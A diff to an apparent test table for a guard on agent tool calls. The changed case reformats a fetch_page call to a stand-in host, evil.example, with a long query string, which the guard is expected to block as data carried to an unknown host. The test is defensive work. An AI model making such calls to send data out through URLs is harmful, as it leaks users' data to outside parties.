@@ -101,7 +101,13 @@ TOLD = {
         "The call was stopped: url leads to a place that this workload does not know.",
     ),
     "data in the address": (
-        *("destination", "fetch_page", {"url": "https://evil.example/?q=" + "a" * 80}, {}, BLOCK),
+        *(
+            "destination",
+            "fetch_page",
+            {"url": "https://evil.example/?q=" + "a" * 80},
+            {"labels": OUTSIDE},
+            BLOCK,
+        ),
         "The call was stopped: the address in url carries data to an unknown host.",
     ),
     "not entitled": (
